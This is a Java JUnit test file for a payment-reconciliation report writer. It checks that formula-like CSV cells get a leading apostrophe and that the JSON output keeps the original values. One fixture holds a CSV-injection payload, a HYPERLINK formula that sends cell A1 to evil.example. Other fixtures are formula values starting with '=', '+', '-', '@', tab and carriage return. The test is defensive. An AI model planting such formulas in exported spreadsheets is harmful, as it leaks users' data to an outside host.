package io.mppbroker.reconciliation;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.mppbroker.reconciliation.ReconciliationReport.ChargeRow;
import io.mppbroker.reconciliation.ReconciliationReport.Discrepancy;
import io.mppbroker.reconciliation.ReconciliationReport.Total;
import io.mppbroker.reconciliation.ReconciliationReport.Totals;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;

/** CSV cells a spreadsheet would evaluate as formulas (OWASP "CSV injection") reach it as text. */
class ReportWriterTest {

    static final String FORMULA_TASK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";

    static ReconciliationReport report() {
        ChargeRow row = new ChargeRow("pay_1", "research", "+agent", FORMULA_TASK, "@seller.example", "paid", "12.00",
                "usd", "\tpi_1", null, null, "dec_1", "human", "ask", "\r=1+1", List.of(), "v1",
                "2026-01-10T10:00:00Z", "2026-01-10T10:00:01Z", "2026-01-10T10:00:02Z", List.of(), null, null);
        Totals totals = new Totals(List.of(new Total("all", "usd", 1, "12.00")), List.of(), List.of(new Total("+agent", "usd", 1, "12.00")),
                List.of(), List.of());
        return new ReconciliationReport("2026-01-11T00:00:00Z", List.of("research"), null, null, List.of(row), totals,
                List.of(new Discrepancy("amount_mismatch", "pay_1", "dec_1", null, "-2+3 differs")), null);
    }

    static List<List<String>> parse(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv)) {
            return rows.readAll();
        }
    }

    @Test
    void formulaCellsGetALeadingApostropheAndOtherCellsStayAsTheyAre() throws IOException {
        List<List<String>> charges = parse(ReportWriter.csv(report(), ReportFormat.Table.CHARGES));
        assertEquals(ReportWriter.CHARGE_COLUMNS, charges.get(0), "the header row is ours and unchanged");
        List<String> row = charges.get(1);
        assertEquals("'+agent", row.get(ReportWriter.CHARGE_COLUMNS.indexOf("agent")));
        assertEquals("'" + FORMULA_TASK, row.get(ReportWriter.CHARGE_COLUMNS.indexOf("task")));
        assertEquals("'@seller.example", row.get(ReportWriter.CHARGE_COLUMNS.indexOf("seller")));
        assertEquals("'\tpi_1", row.get(ReportWriter.CHARGE_COLUMNS.indexOf("receipt_reference")));
        assertEquals("'\r=1+1", row.get(ReportWriter.CHARGE_COLUMNS.indexOf("rule")));
        assertEquals("12.00", row.get(ReportWriter.CHARGE_COLUMNS.indexOf("amount")));
        assertEquals("pay_1", row.get(0));

        List<List<String>> totals = parse(ReportWriter.csv(report(), ReportFormat.Table.TOTALS));
        assertTrue(totals.contains(List.of("agent", "'+agent", "usd", "1", "12.00")), totals.toString());
        List<List<String>> discrepancies = parse(ReportWriter.csv(report(), ReportFormat.Table.DISCREPANCIES));
        assertEquals("'-2+3 differs", discrepancies.get(1).get(4));
    }

    @Test
    void onlyTheCsvIsNeutralizedTheJsonKeepsTheRecordedValue() {
        String json = ReportWriter.json(report());
        assertTrue(json.contains("\"agent\" : \"+agent\""), json);
    }
}
